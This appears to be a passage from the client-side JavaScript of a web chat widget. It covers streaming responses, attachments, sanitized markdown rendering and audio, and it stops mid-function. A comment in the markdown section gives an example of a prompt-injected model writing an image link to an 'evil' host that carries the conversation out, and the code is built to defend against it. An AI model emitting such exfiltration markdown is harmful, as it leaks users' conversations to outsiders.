/* botline web chat: the page served at /chat/{accessKey}.
 *
 * Plain browser JavaScript, no build step. It talks to the public chat API named in the
 * #botline-config element (apiBase): GET history, POST /prompt?stream=true (server-sent events
 * read from a fetch() body), DELETE to stop, POST /retry, POST /reset, GET /transcript.json.
 * Assistant text is markdown: marked renders it and DOMPurify sanitizes it before it touches the
 * DOM. User text is only ever set as text.
 */
(function () {
  "use strict";

  const DEFAULT_CULTURE = {
    languageCode: "en",
    sendButtonLabel: "Send",
    inputPlaceholder: "Type a message...",
    stopButtonLabel: "Stop",
    retryButtonLabel: "Retry",
    newConversationLabel: "New conversation",
    downloadTranscriptLabel: "Download transcript",
    attachImageLabel: "Attach an image",
    attachDocumentLabel: "Attach a document",
    attachAudioLabel: "Attach audio",
    removeAttachmentLabel: "Remove attachment",
    cancelledLabel: "Stopped",
    errorLabel: "Something went wrong.",
    sessionEndedLabel: "This conversation has ended.",
    thinkingLabel: "Thinking...",
    toolRunningLabel: "Using {name}...",
    toolFinishedLabel: "Used {name}",
    openChatLabel: "Open chat",
    closeChatLabel: "Close chat",
    muteLabel: "Mute spoken answers",
    unmuteLabel: "Play spoken answers",
    spokenAnswerLabel: "Spoken answer",
    reasoningLabel: "Thought process",
    sourcesLabel: "Sources ({count})",
    messagesLabel: "Messages",
    youLabel: "You",
    assistantLabel: "Assistant",
  };

  const INPUT_MODES = {
    Image: { accept: "image/png,image/jpeg,image/gif,image/webp", label: "attachImageLabel", icon: "image" },
    Document: { accept: ".pdf,.txt,.md,.csv,.json", label: "attachDocumentLabel", icon: "clip" },
    Audio: { accept: "audio/*", label: "attachAudioLabel", icon: "mic" },
  };
  const DOCUMENT_TYPES = {
    pdf: "application/pdf", txt: "text/plain", md: "text/markdown", markdown: "text/markdown",
    csv: "text/csv", json: "application/json",
  };
  const AUDIO_FORMATS = {
    "audio/wav": "wav", "audio/x-wav": "wav", "audio/wave": "wav", "audio/mpeg": "mp3", "audio/mp3": "mp3",
    "audio/webm": "webm", "audio/ogg": "ogg", "audio/mp4": "m4a", "audio/x-m4a": "m4a", "audio/m4a": "m4a",
    "audio/flac": "flac", "audio/x-flac": "flac",
  };
  const STICK_TO_BOTTOM_PX = 96;
  const MAX_INPUT_HEIGHT_PX = 200;
  const STOP_GRACE_MS = 8000;
  const ATTACHMENT_NOTE = /^\[Attachment: (.+) \(([\w.+-]+\/[\w.+-]+), \d+ KB\) [^\]\n]*\]\n?/;
  const VOICE_NOTE = /^\[Voice message transcript\]\n?/;

  const ICONS = {
    send: '<path d="M5 12h13M12 5l7 7-7 7"/>',
    stop: '<rect x="7" y="7" width="10" height="10" rx="1.5" fill="currentColor" stroke="none"/>',
    retry: '<path d="M4 12a8 8 0 0 1 13.66-5.66L20 8.5"/><path d="M20 4v4.5h-4.5"/><path d="M20 12a8 8 0 0 1-13.66 5.66L4 15.5"/><path d="M4 20v-4.5h4.5"/>',
    compose: '<path d="M12 20h9"/><path d="M16.5 3.5a2.12 2.12 0 0 1 3 3L7 19l-4 1 1-4Z"/>',
    download: '<path d="M12 4v11"/><path d="m7 10 5 5 5-5"/><path d="M5 20h14"/>',
    image: '<rect x="3" y="4" width="18" height="16" rx="2.5"/><circle cx="8.5" cy="9.5" r="1.5"/><path d="m21 16-5-5-9 9"/>',
    clip: '<path d="m21 11-8.6 8.6a5 5 0 0 1-7.07-7.07l8.6-8.6a3.33 3.33 0 0 1 4.72 4.72l-8.61 8.6a1.67 1.67 0 0 1-2.36-2.36L15.5 7"/>',
    mic: '<rect x="9" y="3" width="6" height="11" rx="3"/><path d="M5 11a7 7 0 0 0 14 0"/><path d="M12 18v3"/>',
    close: '<path d="M6 6l12 12M18 6 6 18"/>',
    speaker: '<path d="M4 9h4l5-4v14l-5-4H4Z"/><path d="M16.5 8.5a5 5 0 0 1 0 7"/><path d="M19 6a8.5 8.5 0 0 1 0 12"/>',
    muted: '<path d="M4 9h4l5-4v14l-5-4H4Z"/><path d="m17 9 5 6M22 9l-5 6"/>',
    file: '<path d="M14 3H7a2 2 0 0 0-2 2v14a2 2 0 0 0 2 2h10a2 2 0 0 0 2-2V8Z"/><path d="M14 3v5h5"/>',
    check: '<path d="m5 12 5 5 9-10"/>',
    chevron: '<path d="m9 6 6 6-6 6"/>',
    alert: '<circle cx="12" cy="12" r="9"/><path d="M12 7.5v5.5"/><path d="M12 16.5v.01"/>',
  };

  const EMBED_HASH = /(^#|&)botline-embed(&|$)/; // set by embed.js: it wants a close button in the header
  const framed = window.parent !== window;
  const embedded = framed && EMBED_HASH.test(location.hash);

  const configElement = document.getElementById("botline-config");
  const config = JSON.parse(configElement ? configElement.textContent : "{}");
  const apiBase = config.apiBase;

  const state = {
    culture: DEFAULT_CULTURE,
    client: {},
    messages: [], // {id, role, content, status, el, body, foot, text}
    busy: false,
    controller: null,
    stopRequested: false,
    stopTimer: 0,
    attachments: [], // {kind, name, size, part, previewUrl}
    errorRow: null,
    ended: false,
    debug: false,
    missedNews: false, // a "messages" event came while a turn was running: fetched once it ends
  };
  const ui = {};

  // ---------------------------------------------------------------- small helpers

  function t(key, vars) {
    let text = state.culture[key] || DEFAULT_CULTURE[key] || key;
    if (vars) {
      Object.keys(vars).forEach(function (name) { text = text.split("{" + name + "}").join(vars[name]); });
    }
    return text;
  }

  function log() {
    if (state.debug) console.debug.apply(console, ["[botline]"].concat(Array.from(arguments)));
  }

  function el(tag, attrs, children) {
    const node = document.createElement(tag);
    if (attrs) {
      Object.keys(attrs).forEach(function (name) {
        const value = attrs[name];
        if (value === null || value === undefined || value === false) return;
        if (name === "text") node.textContent = value;
        else if (name === "className") node.className = value;
        else if (name.slice(0, 2) === "on") node.addEventListener(name.slice(2), value);
        else node.setAttribute(name, value === true ? "" : value);
      });
    }
    (children || []).forEach(function (child) { if (child) node.append(child); });
    return node;
  }

  /** An inline SVG from the constant ICONS table (never from data). */
  function icon(name) {
    const span = el("span", { className: "bl-icon", "aria-hidden": "true" });
    span.innerHTML = '<svg viewBox="0 0 24 24" width="20" height="20" fill="none" stroke="currentColor" ' +
      'stroke-width="2" stroke-linecap="round" stroke-linejoin="round" focusable="false">' + ICONS[name] + "</svg>";
    return span;
  }

  function iconButton(name, label, onClick, className) {
    return el("button", {
      type: "button", className: "bl-icon-btn " + (className || ""), "aria-label": label, title: label, onclick: onClick,
    }, [icon(name)]);
  }

  function formatSize(bytes) {
    if (bytes < 1024) return bytes + " B";
    if (bytes < 1024 * 1024) return Math.round(bytes / 1024) + " KB";
    return (bytes / (1024 * 1024)).toFixed(1) + " MB";
  }

  async function errorMessage(response) {
    try {
      const body = await response.json();
      if (body && typeof body.message === "string" && body.message) return body.message;
    } catch (err) {
      /* not JSON: fall through */
    }
    return t("errorLabel");
  }

  // ---------------------------------------------------------------- markdown

  // Images in answers are shown only from data: URLs. Any other source is dropped before the HTML
  // reaches the page (no request is made) and the image's alt text is shown instead: a model steered
  // into writing ![](https://evil/?q=<conversation>) would otherwise send the conversation away. The
  // page's CSP (img-src 'self' data:, connect-src 'self') refuses such requests as well.
  const INLINE_IMAGE = /^data:image\//i;

  if (window.DOMPurify && window.DOMPurify.addHook) {
    window.DOMPurify.addHook("afterSanitizeAttributes", function (node) {
      if (node.tagName === "A" && node.getAttribute("href")) {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer nofollow");
      }
      if (node.tagName === "IMG" && !INLINE_IMAGE.test(node.getAttribute("src") || "")) {
        node.removeAttribute("src");
        node.setAttribute("data-bl-remote", "");
      }
    });
  }

  /** Markdown to sanitized HTML, or null when the libraries are missing (the caller shows text). */
  function markdownHtml(text) {
    if (!window.marked || !window.DOMPurify || !window.DOMPurify.isSupported) return null;
    const raw = window.marked.parse(text, { gfm: true, breaks: true, async: false });
    return window.DOMPurify.sanitize(raw, {
      USE_PROFILES: { html: true },
      FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "option",
        "video", "audio", "source", "picture", "track"],
      FORBID_ATTR: ["style", "srcset", "background", "poster"],
    });
  }

  function renderMarkdown(target, text) {
    const html = markdownHtml(text);
    if (html === null) {
      target.textContent = text;
      target.classList.add("bl-plain");
    } else {
      target.innerHTML = html; // sanitized by DOMPurify above
      target.querySelectorAll("img[data-bl-remote]").forEach(function (img) {
        img.replaceWith(document.createTextNode(img.alt ? "[" + img.alt + "]" : ""));
      });
    }
  }

  // ---------------------------------------------------------------- theme

  function applyTheme() {
    const probe = el("span", { style: "position:absolute;visibility:hidden;background:var(--primary)" });
    document.body.append(probe);
    const rgb = getComputedStyle(probe).backgroundColor.match(/\d+(\.\d+)?/g);
    probe.remove();
    if (!rgb || rgb.length < 3) return;
    const channel = function (value) {
      const c = Number(value) / 255;
      return c <= 0.03928 ? c / 12.92 : Math.pow((c + 0.055) / 1.055, 2.4);
    };
    const luminance = 0.2126 * channel(rgb[0]) + 0.7152 * channel(rgb[1]) + 0.0722 * channel(rgb[2]);
    document.documentElement.style.setProperty("--on-primary", luminance > 0.45 ? "#111827" : "#ffffff");
  }

  /** Tells the embedding page (any origin: nothing here is secret) about the chat's colour and labels. */
  function tellParent(message) {
    if (!framed) return;
    try {
      window.parent.postMessage(message, "*");
    } catch (err) {
      log("could not post to the parent page", err);
    }
  }

  function announceTheme() {
    tellParent({
      type: "botline:theme", color: state.client.primaryColor, closeButton: embedded,
      openLabel: t("openChatLabel"), closeLabel: t("closeChatLabel"),
    });
  }

  // ---------------------------------------------------------------- page structure

  function avatar(size) {
    const title = state.client.pageTitle || document.title || "";
    if (state.client.logoImageUrl) {
      return el("span", { className: "bl-avatar bl-avatar--" + size }, [
        el("img", { src: state.client.logoImageUrl, alt: "", referrerpolicy: "no-referrer" }),
      ]);
    }
    return el("span", { className: "bl-avatar bl-avatar--" + size + " bl-avatar--mono", "aria-hidden": "true",
      text: (title.trim()[0] || "?").toUpperCase() });
  }

  function buildShell() {
    const app = document.getElementById("app");
    app.className = "bl-app";
    app.textContent = "";

    ui.newButton = iconButton("compose", t("newConversationLabel"), newConversation);
    ui.downloadLink = el("a", {
      className: "bl-icon-btn", href: apiBase + "/transcript.json", download: "transcript.json",
      "aria-label": t("downloadTranscriptLabel"), title: t("downloadTranscriptLabel"),
    }, [icon("download")]);
    ui.muteButton = state.client.audioSynthesisEnabled ? el("button", {
      type: "button", className: "bl-icon-btn bl-mute", onclick: toggleMuted,
    }) : null;
    const header = el("header", { className: "bl-header" }, [
      avatar("sm"),
      el("h1", { className: "bl-title", text: state.client.pageTitle || document.title }),
      el("div", { className: "bl-header-actions" }, [
        ui.muteButton, ui.newButton, ui.downloadLink,
        embedded ? iconButton("close", t("closeChatLabel"), function () { tellParent({ type: "botline:close" }); }) : null,
      ]),
    ]);

    ui.empty = buildEmptyState();
    ui.log = el("div", {
      className: "bl-log", role: "log", "aria-live": "polite", "aria-relevant": "additions",
      "aria-label": t("messagesLabel"),
    });
    ui.scroll = el("div", { className: "bl-scroll" }, [
      el("div", { className: "bl-column" }, [ui.empty, ui.log]),
    ]);

    app.append(header, ui.scroll, buildComposer());
    showMuted();
  }

  // ---------------------------------------------------------------- spoken answers

  // Muted or not is remembered per browser (localStorage; a browser that refuses storage keeps it for the page).
  const MUTE_KEY = "botline:muted";
  let mutedFallback = false;

  function isMuted() {
    try { return window.localStorage.getItem(MUTE_KEY) === "1"; } catch (err) { return mutedFallback; }
  }

  function setMuted(muted) {
    mutedFallback = muted;
    try { window.localStorage.setItem(MUTE_KEY, muted ? "1" : "0"); } catch (err) { /* storage refused */ }
  }

  function showMuted() {
    if (!ui.muteButton) return;
    const muted = isMuted();
    const label = muted ? t("unmuteLabel") : t("muteLabel");
    ui.muteButton.setAttribute("aria-pressed", muted ? "true" : "false");
    ui.muteButton.setAttribute("aria-label", label);
    ui.muteButton.title = label;
    ui.muteButton.replaceChildren(icon(muted ? "muted" : "speaker"));
    document.querySelectorAll(".bl-audio").forEach(function (player) { player.hidden = muted; });
  }

  function toggleMuted() {
    setMuted(!isMuted());
    if (isMuted()) document.querySelectorAll(".bl-audio audio").forEach(function (audio) { audio.pause(); });
    state.messages.forEach(function (message) { if (message.audio) attachAudio(message, false); });
    showMuted();
  }

  // A player under an answer. Its audio is fetched only when the page is not muted: the newest answer's at
  // once (and played), older ones when their play button is pressed (preload none).
  function attachAudio(message, play) {
    if (!message.id || isMuted()) return;
    let player = message.el.querySelector(".bl-audio audio");
    if (!player) {
      player = el("audio", {
        controls: true, preload: play ? "auto" : "none", "aria-label": t("spokenAnswerLabel"),
        src: apiBase + "/messages/" + encodeURIComponent(message.id) + "/audio",
      });
      message.foot.before(el("div", { className: "bl-audio" }, [player]));
    }
    if (play) {
      const started = player.play();
      if (started && started.catch) started.catch(function (err) { log("audio not played", err); });
    }
  }

  function buildEmptyState() {
    const client = state.client;
    const suggestions = (client.suggestionButtons || []).filter(function (b) { return b && (b.label || b.prompt); });
    return el("section", { className: "bl-empty", "aria-label": client.helloLabel || client.pageTitle }, [
      avatar("lg"),
      el("h2", { className: "bl-hello", text: client.helloLabel || client.pageTitle || "" }),
      client.helloSubLabel ? el("p", { className: "bl-hello-sub", text: client.helloSubLabel }) : null,
      suggestions.length ? el("div", { className: "bl-suggestions" }, suggestions.map(function (button) {
        return el("button", {
          type: "button", className: "bl-suggestion",
          onclick: function () { if (!state.busy) send(button.prompt || button.label); },
        }, [el("span", { text: button.label || button.prompt }), icon("chevron")]);
      })) : null,
    ]);
  }

  function buildComposer() {
    const placeholder = state.client.textAreaPlaceholder || t("inputPlaceholder");
    ui.input = el("textarea", {
      className: "bl-input", rows: "1", placeholder: placeholder, "aria-label": placeholder, enterkeyhint: "send",
      oninput: onInput, onkeydown: onKeyDown, onpaste: onPaste,
    });
    ui.send = el("button", {
      type: "submit", className: "bl-send", "aria-label": t("sendButtonLabel"), title: t("sendButtonLabel"),
      disabled: true,
    }, [icon("send")]);
    ui.stop = el("button", {
      type: "button", className: "bl-send bl-stop", "aria-label": t("stopButtonLabel"), title: t("stopButtonLabel"),
      hidden: true, onclick: stop,
    }, [icon("stop")]);

    const tools = el("div", { className: "bl-tools" });
    (state.client.inputModes || []).forEach(function (mode) {
      const spec = INPUT_MODES[mode];
      if (!spec) return;
      const picker = el("input", {
        type: "file", accept: spec.accept, hidden: true, multiple: true, "data-mode": mode, tabindex: "-1",
        onchange: function (event) {
          Array.from(event.target.files || []).forEach(function (file) { addAttachment(mode, file); });
          event.target.value = "";
        },
      });
      const button = iconButton(spec.icon, t(spec.label), function () { picker.click(); }, "bl-attach");
      button.dataset.mode = mode;
      tools.append(button, picker);
    });

    ui.attachments = el("ul", { className: "bl-attachments", hidden: true });
    ui.form = el("form", { className: "bl-composer-box", onsubmit: function (event) { event.preventDefault(); submit(); } }, [
      ui.attachments,
      el("div", { className: "bl-composer-row" }, [tools.childElementCount ? tools : null, ui.input, ui.send, ui.stop]),
    ]);
    ui.composer = el("footer", { className: "bl-composer" }, [el("div", { className: "bl-column" }, [ui.form])]);
    return ui.composer;
  }

  // ---------------------------------------------------------------- composer behaviour

  function onInput() {
    autoGrow();
    updateSendState();
  }

  function autoGrow() {
    ui.input.style.height = "auto";
    const height = Math.min(ui.input.scrollHeight, MAX_INPUT_HEIGHT_PX);
    ui.input.style.height = height + "px";
    ui.input.style.overflowY = ui.input.scrollHeight > MAX_INPUT_HEIGHT_PX ? "auto" : "hidden";
  }

  function onKeyDown(event) {
    if (event.key === "Enter" && !event.shiftKey && !event.isComposing && event.keyCode !== 229) {
      event.preventDefault();
      submit();
    }
  }

  function onPaste(event) {
    if (!(state.client.inputModes || []).includes("Image") || !event.clipboardData) return;
    const images = Array.from(event.clipboardData.files || []).filter(function (f) { return /^image\//.test(f.type); });
    if (images.length) {
      event.preventDefault();
      images.forEach(function (file) { addAttachment("Image", file); });
    }
  }

  function hasDraft() {
    return ui.input.value.trim().length > 0 || state.attachments.length > 0;
  }

  function updateSendState() {
    ui.send.disabled = state.busy || state.ended || !hasDraft();
  }

  function submit() {
    if (state.busy || state.ended || !hasDraft()) return;
    const text = ui.input.value.trim();
    let content = text;
    if (state.attachments.length) {
      content = (text ? [{ type: "text", text: text }] : []).concat(state.attachments.map(function (a) { return a.part; }));
    }
    ui.input.value = "";
    clearAttachments();
    autoGrow();
    send(content);
  }

  function setBusy(busy) {
    state.busy = busy;
    if (!busy && state.missedNews) {
      state.missedNews = false;
      setTimeout(pollForNewMessages, 0); // an agent wrote while this page's own turn was running
    }
    ui.send.hidden = busy;
    ui.stop.hidden = !busy;
    ui.stop.disabled = false;
    ui.newButton.disabled = state.ended;
    updateSendState();
    if (!busy && document.activeElement === ui.stop) ui.input.focus();
    refreshActions();
  }

  // ---------------------------------------------------------------- attachments

  function readDataUrl(file) {
    return new Promise(function (resolve, reject) {
      const reader = new FileReader();
      reader.onload = function () { resolve(String(reader.result)); };
      reader.onerror = function () { reject(reader.error); };
      reader.readAsDataURL(file);
    });
  }

  function extension(name) {
    const dot = name.lastIndexOf(".");
    return dot < 0 ? "" : name.slice(dot + 1).toLowerCase();
  }

  async function addAttachment(mode, file) {
    let dataUrl;
    try {
      dataUrl = await readDataUrl(file);
    } catch (err) {
      showError(t("errorLabel"));
      return;
    }
    const base64 = dataUrl.slice(dataUrl.indexOf(",") + 1);
    let part;
    if (mode === "Image") {
      part = { type: "image_url", image_url: { url: dataUrl } };
    } else if (mode === "Document") {
      const mime = DOCUMENT_TYPES[extension(file.name)] || file.type || "application/octet-stream";
      part = { type: "file", file: { filename: file.name, file_data: "data:" + mime + ";base64," + base64 } };
    } else {
      const format = AUDIO_FORMATS[(file.type || "").split(";")[0]] || extension(file.name) || "wav";
      part = { type: "input_audio", input_audio: { data: base64, format: format } };
    }
    const attachment = { kind: mode, name: file.name, size: file.size, part: part, previewUrl: mode === "Image" ? dataUrl : null };
    state.attachments.push(attachment);
    renderAttachments();
    updateSendState();
    ui.input.focus();
  }

  function renderAttachments() {
    ui.attachments.textContent = "";
    ui.attachments.hidden = state.attachments.length === 0;
    state.attachments.forEach(function (attachment, index) {
      const thumb = attachment.previewUrl
        ? el("img", { className: "bl-attachment-thumb", src: attachment.previewUrl, alt: "" })
        : el("span", { className: "bl-attachment-thumb bl-attachment-thumb--icon" }, [icon(attachment.kind === "Audio" ? "mic" : "file")]);
      ui.attachments.append(el("li", { className: "bl-attachment" }, [
        thumb,
        el("span", { className: "bl-attachment-text" }, [
          el("span", { className: "bl-attachment-name", text: attachment.name }),
          el("span", { className: "bl-attachment-size", text: formatSize(attachment.size) }),
        ]),
        iconButton("close", t("removeAttachmentLabel") + ": " + attachment.name, function () {
          state.attachments.splice(index, 1);
          renderAttachments();
          updateSendState();
          ui.input.focus();
        }, "bl-attachment-remove"),
      ]));
    });
  }

  function clearAttachments() {
    state.attachments = [];
    renderAttachments();
  }

  // ---------------------------------------------------------------- messages

  function isNearBottom() {
    const s = ui.scroll;
    return s.scrollHeight - s.scrollTop - s.clientHeight < STICK_TO_BOTTOM_PX;
  }

  function scrollToBottom() {
    ui.scroll.scrollTop = ui.scroll.scrollHeight;
  }

  function updateEmptyState() {
    const empty = state.messages.length === 0 && !state.errorRow;
    ui.empty.hidden = !empty;
    ui.log.classList.toggle("bl-log--empty", empty);
  }

  function fileChip(name, kind) {
    return el("span", { className: "bl-file-chip" }, [icon(kind === "audio" ? "mic" : "file"), el("span", { text: name })]);
  }

  /** User content: text as text; images as thumbnails; files and voice notes as chips. */
  function renderUserContent(body, content) {
    body.textContent = "";
    const parts = typeof content === "string" ? [{ type: "text", text: content }] : (Array.isArray(content) ? content : []);
    const media = el("div", { className: "bl-user-media" });
    parts.forEach(function (part) {
      if (!part || typeof part !== "object") return;
      if (part.type === "text" && typeof part.text === "string") {
        const note = part.text.match(ATTACHMENT_NOTE);
        if (note) {
          media.append(fileChip(note[1], /^audio\//.test(note[2]) ? "audio" : "file"));
          return;
        }
        if (VOICE_NOTE.test(part.text)) {
          media.append(fileChip(t("attachAudioLabel").replace(/^\S+\s+/, ""), "audio"));
          body.append(el("p", { className: "bl-user-text", text: part.text.replace(VOICE_NOTE, "") }));
          return;
        }
        if (part.text) body.append(el("p", { className: "bl-user-text", text: part.text }));
      } else if (part.type === "image_url" && part.image_url && /^(data:image\/|https?:)/.test(String(part.image_url.url))) {
        media.append(el("img", { className: "bl-user-image", src: part.image_url.url, alt: "" }));
      } else if (part.type === "file" && part.file) {
        media.append(fileChip(String(part.file.filename || "document"), "file"));
      } else if (part.type === "input_audio") {
        media.append(fileChip("audio." + ((part.input_audio && part.input_audio.format) || "wav"), "audio"));
      }
    });
    if (media.childElementCount) body.prepend(media);
  }

  function appendMessage(message) {
    const stick = isNearBottom();
    const isUser = message.role === "user";
    message.body = el("div", { className: "bl-bubble" + (isUser ? "" : " bl-markdown") });
    message.foot = el("div", { className: "bl-msg-foot" });
    message.tools = isUser ? null : el("div", { className: "bl-tools-log" });
    message.el = el("article", {
      className: "bl-msg bl-msg--" + (isUser ? "user" : "assistant"),
      "aria-label": isUser ? t("youLabel") : t("assistantLabel"),
    }, [
      isUser ? null : avatar("sm"),
      el("div", { className: "bl-msg-main" }, [message.tools, message.body, message.foot]),
    ]);
    if (!isUser && typeof message.reasoning === "string" && message.reasoning) setReasoning(message, message.reasoning, false);
    if (isUser) renderUserContent(message.body, message.content);
    else setAssistantText(message, typeof message.content === "string" ? message.content : "");
    if (!isUser && Array.isArray(message.documents)) setSources(message, message.documents);
    if (message.status === "cancelled") markStopped(message);
    if (!isUser && Array.isArray(message.media)) attachMedia(message, message.media);
    if (message.audio) attachAudio(message, false);
    // A person of the business wrote it (human handoff): their name under the bubble.
    if (message.agent) message.foot.prepend(el("span", { className: "bl-agent", text: message.agent }));
    state.messages.push(message);
    ui.log.append(message.el);
    updateEmptyState();
    if (stick || isUser) scrollToBottom();
    return message;
  }

  function setAssistantText(message, text) {
    message.text = text;
    if (text) {
      message.el && message.el.classList.remove("bl-msg--thinking");
      renderMarkdown(message.body, text);
    } else {
      message.body.textContent = "";
    }
  }

  /** A shell file's public address (http or https, botline's download path): served as an attachment. */
  function isPublicFile(url) {
    try {
      const parsed = new URL(url, window.location.href);
      return /^https?:$/.test(parsed.protocol) && parsed.pathname.indexOf("/api/v1/public/ext-res/file/") === 0;
    } catch (e) {
      return false;
    }
  }

  /**
   * Images and files a tool made, under the answer. Kept ones (an `id`) come from botline's own
   * `.../media/{id}`; others, not kept (past the session's budget), only as `data:` URLs botline itself
   * produced (the CSP allows no other image source), or, for a download chip, a file's public address
   * (files the bash tool wrote). Raster images inline, anything else a download chip.
   */
  function attachMedia(message, media) {
    const box = el("div", { className: "bl-bot-media" });
    media.forEach(function (item) {
      if (!item) return;
      const kept = typeof item.id === "string" && item.id;
      const url = kept ? apiBase + "/media/" + encodeURIComponent(item.id) : item.url;
      if (typeof url !== "string") return;
      const inline = !kept && url.slice(0, 5) === "data:";
      if (!kept && !inline && !(item.kind === "file" && isPublicFile(url))) return;
      const name = String(item.fileName || "file");
      const image = item.kind === "image" && /^image\/(png|jpeg|gif|webp)$/.test(String(item.contentType || ""));
      if (image && (kept || /^data:image\/(png|jpeg|gif|webp);/.test(url))) {
        box.append(el("img", { className: "bl-bot-image", src: url, alt: name }));
      } else {
        box.append(el("a", { className: "bl-file-chip bl-file-chip--download", href: url, download: name,
          rel: "noopener" }, [icon("file"), el("span", { text: name })]));
      }
    });
    if (box.childElementCount) message.body.after(box);
  }

  /** The model's thinking, as plain text in a disclosure above the answer: open while it streams. */
  function setReasoning(message, text, streaming) {
    message.reasoning = text;
    if (!message.thinking) {
      message.thinkingText = el("div", { className: "bl-reasoning-text" });
      message.thinking = el("details", { className: "bl-reasoning" }, [
        el("summary", { className: "bl-reasoning-label", text: t("reasoningLabel") }), message.thinkingText,
      ]);
      message.body.before(message.thinking);
    }
    message.thinking.open = Boolean(streaming);
    message.thinkingText.textContent = text;
  }

  /**
   * The knowledge documents the answer used, as a folded list under it ("Sources (2)"): each
   * document's name and its collection's. A <details> opens with Enter or Space from the keyboard.
   */
  function setSources(message, documents) {
    const shown = documents.filter(function (d) { return d && typeof d.name === "string" && d.name; });
    if (message.sources) message.sources.remove();
    message.sources = null;
    if (!shown.length) return;
    const list = el("ul", { className: "bl-sources-list" }, shown.map(function (d) {
      return el("li", { className: "bl-source" }, [
        icon("file"),
        el("span", { className: "bl-source-text" }, [
          el("span", { className: "bl-source-name", text: d.name }),
          d.collection ? el("span", { className: "bl-source-collection", text: d.collection }) : null,
        ]),
      ]);
    }));
    message.sources = el("details", { className: "bl-sources" }, [
      el("summary", { className: "bl-sources-label", text: t("sourcesLabel", { count: String(shown.length) }) }), list,
    ]);
    message.foot.before(message.sources);
  }

  function showThinking(message) {
    message.el.classList.add("bl-msg--thinking");
    message.body.textContent = "";
    message.body.append(el("span", { className: "bl-thinking", role: "status" }, [
      el("span", { className: "bl-dot" }), el("span", { className: "bl-dot" }), el("span", { className: "bl-dot" }),
      el("span", { className: "bl-sr-only", text: t("thinkingLabel") }),
    ]));
  }

  function markStopped(message) {
    message.status = "cancelled";
    message.el.classList.add("bl-msg--stopped");
    message.el.classList.remove("bl-msg--thinking");
    if (!message.text) message.body.textContent = "";
    if (!message.foot.querySelector(".bl-status")) {
      message.foot.prepend(el("span", { className: "bl-status", text: t("cancelledLabel") }));
    }
  }

  function removeMessage(message) {
    message.el.remove();
    state.messages = state.messages.filter(function (m) { return m !== message; });
    updateEmptyState();
  }

  function toolChip(message, data) {
    const name = String(data.name || "");
    let chip = Array.from(message.tools.children).find(function (c) { return c.dataset.tool === name && !c.dataset.done; });
    const finished = data.status === "finished";
    const label = finished ? t("toolFinishedLabel", { name: name }) : t("toolRunningLabel", { name: name });
    const content = [finished ? icon("check") : el("span", { className: "bl-spinner", "aria-hidden": "true" }), el("span", { text: label })];
    const why = data.explanation ? String(data.explanation) : "";  // toolInvocationExplanations: the model's reason
    if (why) content.push(el("span", { className: "bl-tool-why", text: "— " + why }));
    if (!chip) {
      chip = el("span", { className: "bl-tool-chip" });
      chip.dataset.tool = name;
      message.tools.append(chip);
    }
    chip.textContent = "";
    content.forEach(function (c) { chip.append(c); });
    chip.classList.toggle("bl-tool-chip--done", finished);
    if (finished) chip.dataset.done = "1";
  }

  // ---------------------------------------------------------------- errors and actions

  function clearError() {
    if (state.errorRow) state.errorRow.remove();
    state.errorRow = null;
  }

  /** An inline error in the conversation; `retry` adds a Retry button (refused: the prompt was never stored). */
  function showError(message, options) {
    clearError();
    const opts = options || {};
    const row = el("div", { className: "bl-error", role: "alert" }, [
      icon("alert"), el("span", { className: "bl-error-text", text: message }),
    ]);
    if (opts.retry) {
      row.append(el("button", { type: "button", className: "bl-retry", onclick: function () { retry(Boolean(opts.refused)); } },
        [icon("retry"), el("span", { text: t("retryButtonLabel") })]));
    }
    row.dataset.refused = opts.refused ? "1" : "";
    state.errorRow = row;
    ui.log.append(row);
    updateEmptyState();
    scrollToBottom();
    refreshActions();
  }

  /** The Retry button sits under the last answer (or an unanswered last question) when idle. */
  function refreshActions() {
    ui.log.querySelectorAll(".bl-msg-foot .bl-retry").forEach(function (b) { b.remove(); });
    if (state.busy || state.ended || state.errorRow) return;
    const last = state.messages[state.messages.length - 1];
    if (!last) return;
    last.foot.append(el("button", { type: "button", className: "bl-retry", onclick: function () { retry(false); } },
      [icon("retry"), el("span", { text: t("retryButtonLabel") })]));
  }

  function endSession(message) {
    state.ended = true;
    ui.input.disabled = true;
    ui.input.placeholder = t("sessionEndedLabel");
    ui.form.querySelectorAll("button").forEach(function (b) { b.disabled = true; });
    ui.newButton.disabled = true;
    showError(message || t("sessionEndedLabel"));
  }

  // ---------------------------------------------------------------- talking to the server

  /** Server-sent events from a fetch() body: calls onEvent(name, data) for each complete event. */
  async function readEvents(response, onEvent) {
    const reader = response.body.getReader();
    const decoder = new TextDecoder();
    let buffer = "";
    const dispatch = function (block) {
      let name = "message";
      const data = [];
      block.split("\n").forEach(function (rawLine) {
        const line = rawLine.replace(/\r$/, "");
        if (!line || line[0] === ":") return;
        const colon = line.indexOf(":");
        const field = colon < 0 ? line : line.slice(0, colon);
        const value = colon < 0 ? "" : line.slice(colon + 1).replace(/^ /, "");
        if (field === "event") name = value;
        else if (field === "data") data.push(value);
      });
      if (!data.length) return;
      let parsed;
      try {
        parsed = JSON.parse(data.join("\n"));
      } catch (err) {
        log("unreadable event", name, data);
        return;
      }
      onEvent(name, parsed);
    };
    for (;;) {
      const chunk = await reader.read();
      if (chunk.done) break;
      buffer += decoder.decode(chunk.value, { stream: true });
      let end;
      while ((end = buffer.indexOf("\n\n")) >= 0) {
        dispatch(buffer.slice(0, end));
        buffer = buffer.slice(end + 2);
      }
    }
    buffer += decoder.decode();
    if (buffer.trim()) dispatch(buffer);
  }

  function scheduleRender(message) {
    if (message.renderQueued) return;
    message.renderQueued = true;
    requestAnimationFrame(function () {
      message.renderQueued = false;
      const stick = isNearBottom();
      setAssistantText(message, message.text);
      if (stick) scrollToBottom();
    });
  }

  async function send(content, options) {
    if (state.busy || state.ended) return;
    const opts = options || {};
    clearError();
    const last = state.messages[state.messages.length - 1];
    if (!opts.user && last && last.refused) removeMessage(last); // never stored: the new message replaces it
    const user = opts.user || appendMessage({ role: "user", content: content });
    user.el.classList.remove("bl-msg--unsent");
    const assistant = appendMessage({ role: "assistant", content: "" });
    assistant.el.setAttribute("aria-busy", "true");
    showThinking(assistant);
    state.stopRequested = false;
    state.controller = new AbortController();
    setBusy(true);
    scrollToBottom();
    let finished = false;
    try {
      const response = await fetch(apiBase + "/prompt?stream=true", {
        method: "POST",
        headers: { "Content-Type": "application/json", Accept: "text/event-stream" },
        body: JSON.stringify({ prompt: { role: "user", content: content } }),
        signal: state.controller.signal,
      });
